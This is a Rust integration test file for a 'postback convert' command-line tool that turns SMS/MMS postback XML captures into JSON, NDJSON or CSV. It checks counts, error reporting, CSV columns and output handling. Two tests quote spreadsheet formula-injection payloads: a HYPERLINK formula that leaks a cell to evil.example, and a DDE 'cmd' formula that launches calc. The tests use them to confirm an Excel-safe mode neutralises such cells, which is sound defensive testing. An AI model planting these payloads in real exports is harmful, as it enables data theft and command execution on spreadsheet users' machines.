@@ -1,0 +1,896 @@
+//! `postback convert` end to end: the real binary on fixtures, one behaviour per test.
+
+mod common;
+
+use std::fs;
+use std::io::{BufRead, BufReader};
+use std::process::Stdio;
+
+use common::{exec, exec_stdin, fixture, root, Run, PROVIDER_EXAMPLES};
+use serde_json::{json, Value};
+
+const FORMATS: [&str; 3] = ["json", "ndjson", "csv"];
+
+/// An N003 without its required MMSID: a `missing-field` error.
+const MISSING_MMSID: &str = "<POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE></POSTBACK>\n";
+
+/// A run as a snapshot shows it: status, stdout, stderr.
+fn shown(run: &Run) -> String {
+    format!(
+        "status: {}\n--- stdout\n{}--- stderr\n{}",
+        run.status, run.stdout, run.stderr
+    )
+}
+
+/// The NDJSON lines of a run, parsed.
+fn objects(run: &Run) -> Vec<Value> {
+    run.stdout
+        .lines()
+        .map(|line| {
+            serde_json::from_str(line).unwrap_or_else(|e| panic!("not JSON: {line:?}: {e}{run}"))
+        })
+        .collect()
+}
+
+/// CSV output parsed back with the csv crate: the header, then the rows.
+fn table(csv_text: &str) -> (Vec<String>, Vec<Vec<String>>) {
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let header = reader
+        .headers()
+        .expect("a header row")
+        .iter()
+        .map(String::from)
+        .collect();
+    let rows = reader
+        .records()
+        .map(|r| r.expect("a CSV row").iter().map(String::from).collect())
+        .collect();
+    (header, rows)
+}
+
+/// The cell of `column` in `row`.
+fn cell<'r>(header: &[String], row: &'r [String], column: &str) -> &'r str {
+    let i = header
+        .iter()
+        .position(|h| h == column)
+        .unwrap_or_else(|| panic!("no column {column}"));
+    &row[i]
+}
+
+fn temp() -> tempfile::TempDir {
+    tempfile::tempdir().expect("a temporary directory")
+}
+
+#[test]
+fn every_provider_example_in_every_format() {
+    for example in PROVIDER_EXAMPLES {
+        let path = format!("tests/fixtures/{example}");
+        let stem = example
+            .trim_start_matches("provider/")
+            .trim_end_matches(".xml");
+        for format in FORMATS {
+            let run = exec(&["convert", "--to", format, &path]);
+            // The N201 example is not well-formed (`<FROM_MASK><FROM_MASK>`): rejected, exit 1.
+            let expected = if stem == "n201" { 1 } else { 0 };
+            assert_eq!(run.status, expected, "{run}");
+            insta::assert_snapshot!(format!("provider_{stem}_{format}"), shown(&run));
+        }
+    }
+}
+
+#[test]
+fn counts_add_up_on_a_mixed_dump() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "ndjson",
+        "tests/fixtures/convert/mixed.log",
+    ]);
+    assert_eq!(run.status, 1, "a record could not be converted{run}");
+    assert_eq!(objects(&run).len(), 4, "{run}");
+    // 8 `<POSTBACK` starts; the DOCTYPE document and what it holds is one record.
+    assert!(
+        run.stderr
+            .ends_with("4 converted, 0 skipped, 3 rejected, from 1 input\n"),
+        "{run}"
+    );
+    insta::assert_snapshot!("mixed_ndjson", shown(&run));
+}
+
+#[test]
+fn rejected_records_are_reported_with_their_location() {
+    let run = exec(&["convert", "--to", "csv", "tests/fixtures/convert/mixed.log"]);
+    let findings: Vec<&str> = run
+        .stderr
+        .lines()
+        .filter(|l| l.contains("error["))
+        .collect();
+    assert_eq!(
+        findings,
+        [
+            "tests/fixtures/convert/mixed.log:4:75: error[malformed-xml]: <CODE> is never closed: </POSTBACK> comes first",
+            "tests/fixtures/convert/mixed.log:6:32: error[malformed-xml]: <POSTBACK> is never closed",
+            "tests/fixtures/convert/mixed.log:9:1: error[doctype]: document has a DOCTYPE: refused, its entities neither expanded nor fetched",
+        ],
+        "{run}"
+    );
+}
+
+#[test]
+fn rejects_file_receives_exactly_the_raw_text_of_rejected_records() {
+    let dir = temp();
+    let rejects = dir.path().join("rejects.txt");
+    let run = exec(&[
+        "convert",
+        "--to",
+        "ndjson",
+        "tests/fixtures/convert/mixed.log",
+        "--rejects",
+        rejects.to_str().unwrap(),
+    ]);
+    assert_eq!(run.status, 1, "{run}");
+    let dump = common::fixture_text("convert/mixed.log");
+    let malformed = dump.lines().nth(3).unwrap();
+    let malformed = &malformed[malformed.find("<POSTBACK").unwrap()..];
+    // A record that never closes runs up to the next `<POSTBACK`.
+    let cut_off_start = dump
+        .find("<POSTBACK><ORIGIN>SMS_MT</ORIGIN><CODE>N201")
+        .unwrap();
+    let next = cut_off_start + dump[cut_off_start + 1..].find("<POSTBACK").unwrap() + 1;
+    let cut_off = &dump[cut_off_start..next];
+    let doctype_start = dump.find("<!DOCTYPE").unwrap();
+    let doctype_end = dump.rfind("</POSTBACK>").unwrap() + "</POSTBACK>".len();
+    let doctype = &dump[doctype_start..doctype_end];
+    let expected = format!("{malformed}\n{cut_off}\n{doctype}\n");
+    assert_eq!(fs::read_to_string(&rejects).unwrap(), expected);
+
+    // The rejects file is itself a capture: converting it rejects the same records.
+    let again = exec(&["convert", "--to", "ndjson", rejects.to_str().unwrap()]);
+    assert_eq!(again.stdout, "", "{again}");
+    assert!(
+        again
+            .stderr
+            .ends_with("0 converted, 0 skipped, 3 rejected, from 1 input\n"),
+        "{again}"
+    );
+}
+
+#[test]
+fn rejects_file_is_empty_when_nothing_is_rejected() {
+    let dir = temp();
+    let rejects = dir.path().join("rejects.txt");
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "tests/fixtures/provider/n202.xml",
+        "--rejects",
+        rejects.to_str().unwrap(),
+    ]);
+    assert_eq!(run.status, 0, "{run}");
+    assert_eq!(fs::read(&rejects).unwrap(), b"");
+}
+
+#[test]
+fn oversized_records_are_counted_and_reported_but_have_no_text_to_keep() {
+    let dir = temp();
+    let rejects = dir.path().join("rejects.txt");
+    let big = format!(
+        "<POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE><MMSID>{}</MMSID></POSTBACK>\n\
+         <POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE><MMSID>1</MMSID></POSTBACK>\n",
+        "7".repeat(300 * 1024)
+    );
+    let run = exec_stdin(
+        &[
+            "convert",
+            "--to",
+            "ndjson",
+            "--max-record-size",
+            "256K",
+            "--rejects",
+            rejects.to_str().unwrap(),
+        ],
+        big,
+    );
+    assert_eq!(run.status, 1, "{run}");
+    assert_eq!(objects(&run).len(), 1, "{run}");
+    assert!(
+        run.stderr.contains("<stdin>:1:1: error[oversized-record]"),
+        "{run}"
+    );
+    assert!(
+        run.stderr.contains("1 converted, 0 skipped, 1 rejected"),
+        "{run}"
+    );
+    assert_eq!(fs::read(&rejects).unwrap(), b"");
+}
+
+#[test]
+fn valid_only_skips_postbacks_with_errors_and_counts_them() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "ndjson",
+        "--valid-only",
+        "tests/fixtures/convert/mixed.log",
+    ]);
+    let codes: Vec<Value> = objects(&run).iter().map(|o| o["CODE"].clone()).collect();
+    assert_eq!(
+        codes,
+        [json!("N202"), json!("E002"), json!("N003")],
+        "{run}"
+    );
+    assert!(
+        run.stderr
+            .ends_with("3 converted, 1 skipped, 3 rejected, from 1 input\n"),
+        "{run}"
+    );
+    // Skipping is asked for: only the rejected records make the exit status 1.
+    assert_eq!(run.status, 1, "{run}");
+    let clean = exec_stdin(&["convert", "--to", "csv", "--valid-only"], MISSING_MMSID);
+    assert_eq!(clean.status, 0, "{clean}");
+    assert!(
+        clean.stderr.contains("0 converted, 1 skipped, 0 rejected"),
+        "{clean}"
+    );
+}
+
+#[test]
+fn postbacks_with_validation_errors_are_still_converted() {
+    let run = exec_stdin(&["convert", "--to", "ndjson"], MISSING_MMSID);
+    assert_eq!(run.status, 0, "{run}");
+    assert_eq!(
+        objects(&run),
+        [json!({"ORIGIN": "MMS_MT", "CODE": "N003"})],
+        "{run}"
+    );
+}
+
+#[test]
+fn csv_header_is_the_documented_default_columns() {
+    let run = exec(&["convert", "--to", "csv", "tests/fixtures/provider/n003.xml"]);
+    assert_eq!(
+        run.lines()[0],
+        "ORIGIN,CODE,STATUS,SENTAS,MMSID,FROM,FROM_MASK,TO,TRACKINGID,SPID,TIMESTAMP,AGGREGATORID,HANDSET,OS,STATUSDETAILS,AUDIONAME,VIDEONAME,EXTRA"
+    );
+}
+
+#[test]
+fn extra_round_trips_unknown_and_repeated_fields() {
+    let ndjson = exec(&[
+        "convert",
+        "--to",
+        "ndjson",
+        "tests/fixtures/convert/extra.xml",
+    ]);
+    let object = &objects(&ndjson)[0];
+    let csv = exec(&["convert", "--to", "csv", "tests/fixtures/convert/extra.xml"]);
+    let (header, rows) = table(&csv.stdout);
+    let row = &rows[0];
+    // A repeated field keeps its first value in its column and its full list in EXTRA.
+    assert_eq!(cell(&header, row, "STATUS"), "Message Sent/Delivered");
+    let extra: Value = serde_json::from_str(cell(&header, row, "EXTRA")).unwrap();
+    assert_eq!(
+        extra,
+        json!({
+            "STATUS": ["Message Sent/Delivered", "Message Sent/Expired"],
+            "Status": "delivered",
+            "CARRIER_NOTE": "line one\r\nline two, \"quoted\" — ünïcödé ✓",
+        })
+    );
+    // Every value of the NDJSON object is in the CSV: in its column or in EXTRA.
+    for (name, value) in object.as_object().unwrap() {
+        match extra.get(name) {
+            Some(in_extra) => assert_eq!(in_extra, value, "{name}"),
+            None => assert_eq!(Some(cell(&header, row, name)), value.as_str(), "{name}"),
+        }
+    }
+    // Values are exact: untrimmed, entities and CDATA decoded.
+    assert_eq!(object["TO"], " 16501112222 ");
+    assert_eq!(object["HANDSET"], "moto <l7c> & \"friends\"");
+    assert_eq!(object["AGGREGATORID"], "11529-<64807>");
+    insta::assert_snapshot!("extra_csv", csv.stdout);
+}
+
+#[test]
+fn extra_is_empty_when_every_field_has_a_column() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "tests/fixtures/provider/n102-binary.xml",
+    ]);
+    let (header, rows) = table(&run.stdout);
+    assert_eq!(cell(&header, &rows[0], "EXTRA"), "");
+    assert_eq!(cell(&header, &rows[0], "OS"), "iOS");
+}
+
+#[test]
+fn fields_pick_the_columns_and_extra_only_when_listed() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "--fields",
+        "TRACKINGID,STATUS,Status",
+        "tests/fixtures/convert/extra.xml",
+    ]);
+    assert_eq!(
+        run.stdout, "TRACKINGID,STATUS,Status\nTU1TXzU5Nzg3OQ==,Message Sent/Delivered,delivered\n",
+        "{run}"
+    );
+
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "--fields",
+        "CODE,EXTRA",
+        "tests/fixtures/convert/n401.xml",
+    ]);
+    let (header, rows) = table(&run.stdout);
+    assert_eq!(header, ["CODE", "EXTRA"]);
+    let extra: Value = serde_json::from_str(&rows[1][1]).unwrap();
+    assert_eq!(
+        extra["CONTENT"],
+        json!({"FILE": ["https://example.com/mms/2/image.jpg"]})
+    );
+    assert_eq!(extra["ORIGIN"], "MMS_MO");
+    assert!(
+        extra.get("CODE").is_none(),
+        "CODE has its own column: {extra}"
+    );
+}
+
+#[test]
+fn fields_is_for_csv_and_must_name_each_column_once() {
+    for args in [
+        &["convert", "--to", "json", "--fields", "CODE"][..],
+        &["convert", "--to", "csv", "--fields", "CODE,,TO"][..],
+        &["convert", "--to", "csv", "--fields", "CODE,CODE"][..],
+    ] {
+        let mut args = args.to_vec();
+        args.push("tests/fixtures/provider/n003.xml");
+        let run = exec(&args);
+        assert_eq!(run.status, 2, "{run}");
+        assert_eq!(run.stdout, "", "{run}");
+        assert!(run.stderr.contains("--fields"), "{run}");
+    }
+}
+
+#[test]
+fn n401_content_is_an_object_holding_an_array_of_files() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "ndjson",
+        "tests/fixtures/convert/n401.xml",
+    ]);
+    let objects = objects(&run);
+    assert_eq!(
+        objects[0]["CONTENT"],
+        json!({"FILE": ["https://example.com/mms/1/image.jpg", "https://example.com/mms/1/text.txt"]})
+    );
+    // Always an array, even for one file: the shape never depends on the data.
+    assert_eq!(
+        objects[1]["CONTENT"],
+        json!({"FILE": ["https://example.com/mms/2/image.jpg"]})
+    );
+    let json = exec(&["convert", "--to", "json", "tests/fixtures/convert/n401.xml"]);
+    insta::assert_snapshot!("n401_json", json.stdout);
+}
+
+#[test]
+fn json_keeps_document_order() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "json",
+        "tests/fixtures/convert/extra.xml",
+    ]);
+    let keys: Vec<&str> = [
+        "ORIGIN",
+        "CODE",
+        "SENTAS",
+        "STATUS",
+        "MMSID",
+        "FROM",
+        "TO",
+        "TRACKINGID",
+        "SPID",
+    ]
+    .into_iter()
+    .collect();
+    let positions: Vec<usize> = keys
+        .iter()
+        .map(|k| run.stdout.find(&format!("\"{k}\":")).unwrap())
+        .collect();
+    assert!(positions.windows(2).all(|w| w[0] < w[1]), "{run}");
+}
+
+#[test]
+fn json_array_is_valid_with_no_records_and_with_rejected_ones() {
+    let empty = exec_stdin(&["convert", "--to", "json"], "no postbacks here\n");
+    assert_eq!(
+        (empty.status, empty.stdout.as_str()),
+        (0, "[]\n"),
+        "{empty}"
+    );
+    assert!(
+        empty
+            .stderr
+            .ends_with("0 converted, 0 skipped, 0 rejected, from 1 input\n"),
+        "{empty}"
+    );
+
+    let mixed = exec(&[
+        "convert",
+        "--to",
+        "json",
+        "tests/fixtures/convert/mixed.log",
+    ]);
+    let array: Value = serde_json::from_str(&mixed.stdout).expect("one JSON array");
+    assert_eq!(array.as_array().unwrap().len(), 4);
+    assert!(
+        mixed.stdout.starts_with("[{") && mixed.stdout.ends_with("}]\n"),
+        "{mixed}"
+    );
+    assert_eq!(mixed.stdout.matches(",\n").count(), 3, "{mixed}");
+}
+
+#[test]
+fn csv_with_no_records_is_just_the_header() {
+    let run = exec_stdin(&["convert", "--to", "csv", "--fields", "CODE,TO"], "");
+    assert_eq!(run.stdout, "CODE,TO\n", "{run}");
+}
+
+#[test]
+fn excel_mode_neutralises_formula_like_cells() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "--excel",
+        "tests/fixtures/convert/formulas.xml",
+    ]);
+    assert_eq!(run.status, 0, "{run}");
+    let text = run.stdout.strip_prefix('\u{feff}').expect("a UTF-8 BOM");
+    assert!(
+        text.ends_with("\r\n") && !text.replace("\r\n", "").contains('\n'),
+        "CRLF rows{run}"
+    );
+    let (header, rows) = table(text);
+    let row = &rows[0];
+    assert_eq!(
+        cell(&header, row, "STATUS"),
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    );
+    assert_eq!(cell(&header, row, "FROM"), "'+60856");
+    assert_eq!(cell(&header, row, "TO"), "'-16503333058");
+    assert_eq!(cell(&header, row, "TRACKINGID"), "'@SUM(1+1)");
+    assert_eq!(cell(&header, row, "SPID"), "'\t=1+2");
+    assert_eq!(cell(&header, row, "AGGREGATORID"), "'\r=cmd|' /C calc'!A0");
+    // A cell that merely contains `=` is left alone.
+    assert_eq!(cell(&header, row, "STATUSDETAILS"), "a = b, not a formula");
+    assert_eq!(cell(&header, row, "ORIGIN"), "SMS_MT");
+}
+
+#[test]
+fn default_csv_is_exact() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "tests/fixtures/convert/formulas.xml",
+    ]);
+    assert!(
+        !run.stdout.starts_with('\u{feff}') && !run.stdout.contains("\r\n"),
+        "{run}"
+    );
+    let (header, rows) = table(&run.stdout);
+    let row = &rows[0];
+    assert_eq!(
+        cell(&header, row, "STATUS"),
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    );
+    assert_eq!(cell(&header, row, "TO"), "-16503333058");
+    assert_eq!(cell(&header, row, "SPID"), "\t=1+2");
+    assert_eq!(cell(&header, row, "AGGREGATORID"), "\r=cmd|' /C calc'!A0");
+}
+
+#[test]
+fn excel_is_for_csv_only() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "ndjson",
+        "--excel",
+        "tests/fixtures/provider/n003.xml",
+    ]);
+    assert_eq!(run.status, 2, "{run}");
+    assert!(run.stderr.contains("--excel"), "{run}");
+    assert_eq!(run.stdout, "");
+}
+
+#[test]
+fn output_format_is_inferred_from_the_extension() {
+    let dir = temp();
+    for (name, check) in [
+        (
+            "out.json",
+            (|t: &str| t.starts_with("[{")) as fn(&str) -> bool,
+        ),
+        ("out.ndjson", |t| {
+            t.starts_with("{\"ORIGIN\"") && t.lines().count() == 2
+        }),
+        ("out.jsonl", |t| {
+            t.starts_with("{\"ORIGIN\"") && t.lines().count() == 2
+        }),
+        ("OUT.CSV", |t| t.starts_with("ORIGIN,CODE,")),
+    ] {
+        let path = dir.path().join(name);
+        let run = exec(&[
+            "convert",
+            "tests/fixtures/convert/n401.xml",
+            "-o",
+            path.to_str().unwrap(),
+        ]);
+        assert_eq!(run.status, 0, "{run}");
+        assert_eq!(run.stdout, "", "{run}");
+        let text = fs::read_to_string(&path).unwrap();
+        assert!(check(&text), "{name}: {text}");
+    }
+}
+
+#[test]
+fn to_wins_over_the_extension() {
+    let dir = temp();
+    let path = dir.path().join("out.json");
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "tests/fixtures/provider/n003.xml",
+        "-o",
+        path.to_str().unwrap(),
+    ]);
+    assert_eq!(run.status, 0, "{run}");
+    assert!(fs::read_to_string(&path).unwrap().starts_with("ORIGIN,"));
+}
+
+#[test]
+fn no_format_is_a_usage_error_that_says_what_to_do() {
+    let dir = temp();
+    let txt = dir.path().join("out.txt");
+    for args in [
+        vec!["convert", "tests/fixtures/provider/n003.xml"],
+        vec![
+            "convert",
+            "tests/fixtures/provider/n003.xml",
+            "-o",
+            txt.to_str().unwrap(),
+        ],
+    ] {
+        let run = exec(&args);
+        assert_eq!(run.status, 2, "{run}");
+        assert!(
+            run.stderr.contains("--to json") && run.stderr.contains(".csv"),
+            "{run}"
+        );
+    }
+    assert!(
+        !txt.exists(),
+        "nothing is created before the arguments are understood"
+    );
+}
+
+#[test]
+fn output_file_is_truncated_and_errors_name_it() {
+    let dir = temp();
+    let path = dir.path().join("out.ndjson");
+    fs::write(
+        &path,
+        "old content that is much longer than the new one\n".repeat(100),
+    )
+    .unwrap();
+    let run = exec(&[
+        "convert",
+        "tests/fixtures/provider/n003.xml",
+        "-o",
+        path.to_str().unwrap(),
+    ]);
+    assert_eq!(run.status, 0, "{run}");
+    assert_eq!(
+        fs::read_to_string(&path).unwrap(),
+        "{\"ORIGIN\":\"MMS_MT\",\"CODE\":\"N003\",\"MMSID\":\"35674\"}\n"
+    );
+
+    let missing = dir.path().join("no/such/dir/out.csv");
+    let run = exec(&[
+        "convert",
+        "tests/fixtures/provider/n003.xml",
+        "-o",
+        missing.to_str().unwrap(),
+    ]);
+    assert_eq!(run.status, 2, "{run}");
+    assert!(
+        run.stderr.contains("cannot create") && run.stderr.contains("out.csv"),
+        "{run}"
+    );
+}
+
+#[test]
+fn an_output_never_overwrites_an_input() {
+    let dir = temp();
+    let input = dir.path().join("capture.csv");
+    fs::copy(fixture("provider/n003.xml"), &input).unwrap();
+    let before = fs::read(&input).unwrap();
+    let run = exec(&[
+        "convert",
+        input.to_str().unwrap(),
+        "-o",
+        input.to_str().unwrap(),
+    ]);
+    assert_eq!(run.status, 2, "{run}");
+    assert!(run.stderr.contains("also an input"), "{run}");
+    assert_eq!(fs::read(&input).unwrap(), before);
+}
+
+#[cfg(target_os = "linux")]
+#[test]
+fn a_full_disk_is_reported_with_exit_2() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "tests/fixtures/provider/n003.xml",
+        "-o",
+        "/dev/full",
+    ]);
+    assert_eq!(run.status, 2, "{run}");
+    assert!(
+        run.stderr.contains("/dev/full") && run.stderr.contains("No space left"),
+        "{run}"
+    );
+
+    // The same through standard output.
+    let out = std::process::Command::new(env!("CARGO_BIN_EXE_postback"))
+        .current_dir(root())
+        .args([
+            "convert",
+            "--to",
+            "ndjson",
+            "tests/fixtures/provider/n003.xml",
+        ])
+        .stdout(
+            fs::OpenOptions::new()
+                .write(true)
+                .open("/dev/full")
+                .unwrap(),
+        )
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(stderr.contains("No space left"), "{stderr}");
+
+    // And into the rejects file.
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "tests/fixtures/provider/n201.xml",
+        "--rejects",
+        "/dev/full",
+    ]);
+    assert_eq!(run.status, 2, "{run}");
+    assert!(run.stderr.contains("/dev/full"), "{run}");
+}
+
+/// Runs convert on `dump`, reads one line of its output and closes the pipe,
+/// as `| head -1` does; returns the exit status and stderr.
+fn head_1(format: &str, dump: &std::path::Path) -> (Option<i32>, String) {
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_postback"))
+        .args(["convert", "--to", format, dump.to_str().unwrap()])
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut first = String::new();
+    BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut first)
+        .unwrap();
+    assert!(!first.is_empty());
+    // The reader is gone: `child.stdout` was taken and its reader dropped.
+    let out = child.wait_with_output().unwrap();
+    (
+        out.status.code(),
+        String::from_utf8_lossy(&out.stderr).into_owned(),
+    )
+}
+
+#[test]
+fn a_closed_pipe_ends_quietly() {
+    // Enough output to overflow any pipe buffer, so the writer meets the closed pipe.
+    let dir = temp();
+    let dump = dir.path().join("dump.log");
+    let record = common::fixture_text("provider/n102-binary.xml");
+    fs::write(&dump, record.repeat(5000)).unwrap();
+    for format in FORMATS {
+        let (status, stderr) = head_1(format, &dump);
+        assert_eq!(status, Some(0), "{format}: {stderr}");
+        assert_eq!(stderr, "", "{format}: no message, not even a summary");
+    }
+}
+
+#[test]
+fn a_closed_pipe_exits_with_the_status_of_what_was_written() {
+    // Rejected records all along: status 1 only if one was reported before the pipe closed.
+    let dir = temp();
+    let dump = dir.path().join("dump.log");
+    fs::write(
+        &dump,
+        common::fixture_text("convert/mixed.log").repeat(5000),
+    )
+    .unwrap();
+    for format in FORMATS {
+        let (status, stderr) = head_1(format, &dump);
+        let reported = stderr.contains("error[");
+        assert_eq!(
+            status,
+            Some(if reported { 1 } else { 0 }),
+            "{format}: {stderr}"
+        );
+        assert!(
+            !stderr.contains("converted"),
+            "{format}: no summary: {stderr}"
+        );
+        assert!(
+            !stderr.to_lowercase().contains("broken pipe"),
+            "{format}: {stderr}"
+        );
+    }
+}
+
+#[test]
+fn output_is_the_same_for_any_number_of_jobs() {
+    // Over 1 MiB, so that the input is cut into batches spread over workers.
+    let dir = temp();
+    let dump = dir.path().join("dump.log");
+    fs::write(
+        &dump,
+        common::fixture_text("convert/mixed.log").repeat(3000),
+    )
+    .unwrap();
+    let dump = dump.to_str().unwrap();
+    for format in FORMATS {
+        let runs: Vec<(Run, Vec<u8>)> = ["1", "3"]
+            .iter()
+            .map(|jobs| {
+                let rejects = dir.path().join(format!("rejects-{format}-{jobs}.txt"));
+                let run = exec(&[
+                    "convert",
+                    "--to",
+                    format,
+                    "-j",
+                    jobs,
+                    "--rejects",
+                    rejects.to_str().unwrap(),
+                    dump,
+                ]);
+                (run, fs::read(&rejects).unwrap())
+            })
+            .collect();
+        let (one, rejects_one) = &runs[0];
+        let (three, rejects_three) = &runs[1];
+        assert_eq!(one.status, 1, "{one}");
+        assert!(one
+            .stderr
+            .ends_with("12000 converted, 0 skipped, 9000 rejected, from 1 input\n"));
+        assert!(
+            one.stdout == three.stdout,
+            "{format}: stdout differs between -j 1 and -j 3"
+        );
+        assert!(
+            one.stderr == three.stderr,
+            "{format}: stderr differs between -j 1 and -j 3"
+        );
+        assert!(rejects_one == rejects_three, "{format}: rejects differ");
+    }
+}
+
+#[test]
+fn an_unreadable_input_is_reported_and_the_rest_converted() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "ndjson",
+        "tests/fixtures/provider/n003.xml",
+        "no-such-file.xml",
+    ]);
+    assert_eq!(run.status, 2, "{run}");
+    assert_eq!(objects(&run).len(), 1, "{run}");
+    assert!(run.stderr.contains("no-such-file.xml"), "{run}");
+    assert!(
+        run.stderr.ends_with(
+            "1 converted, 0 skipped, 0 rejected, from 1 input; 1 input could not be read\n"
+        ),
+        "{run}"
+    );
+}
+
+#[test]
+fn quiet_drops_the_summary_but_not_the_findings() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "csv",
+        "-q",
+        "tests/fixtures/convert/mixed.log",
+    ]);
+    assert_eq!(run.status, 1, "{run}");
+    assert_eq!(run.stderr.lines().count(), 3, "{run}");
+    assert!(!run.stderr.contains("converted"), "{run}");
+}
+
+#[test]
+fn embedded_postbacks_are_converted_like_any_other() {
+    let run = exec(&[
+        "convert",
+        "--to",
+        "ndjson",
+        "tests/fixtures/convert/embedded.log",
+    ]);
+    assert_eq!(run.status, 0, "{run}");
+    assert_eq!(
+        objects(&run),
+        [
+            json!({"ORIGIN": "MMS_MT", "CODE": "N003", "MMSID": "35674", "NOTE": "tab\there, quote \" and é"}),
+            json!({"ORIGIN": "MMS_MT", "CODE": "E002", "MMSID": "1", "VIDEONAME": "a b&c.mp4"}),
+        ],
+        "{run}"
+    );
+}
+
+#[test]
+fn elements_nested_too_deep_are_rejected_not_crashed_on() {
+    let deep = format!(
+        "<POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE>{}{}</POSTBACK>\n",
+        "<A>".repeat(100),
+        "</A>".repeat(100)
+    );
+    let shallow = "<POSTBACK><ORIGIN>MMS_MT</ORIGIN><CODE>N003</CODE><A><B>x</B></A></POSTBACK>\n";
+    let run = exec_stdin(&["convert", "--to", "ndjson"], format!("{deep}{shallow}"));
+    assert_eq!(run.status, 1, "{run}");
+    assert_eq!(
+        objects(&run),
+        [json!({"ORIGIN": "MMS_MT", "CODE": "N003", "A": {"B": "x"}})],
+        "{run}"
+    );
+    assert!(
+        run.stderr.contains(
+            "<stdin>:1:243: error[nested-element]: <A> is nested more than 64 levels deep"
+        ),
+        "{run}"
+    );
+    assert!(
+        run.stderr.contains("1 converted, 0 skipped, 1 rejected"),
+        "{run}"
+    );
+}
+
+#[test]
+fn help_explains_excel_rejects_and_fields() {
+    let run = exec(&["convert", "--help"]);
+    assert_eq!(run.status, 0);
+    let help = run.stdout.split_whitespace().collect::<Vec<_>>().join(" ");
+    for needle in [
+        "ALTERS",
+        "output is exact",
+        "followed by a newline",
+        "EXTRA is written only if listed",
+        "Examples:",
+    ] {
+        assert!(help.contains(needle), "{needle}{run}");
+    }
+}
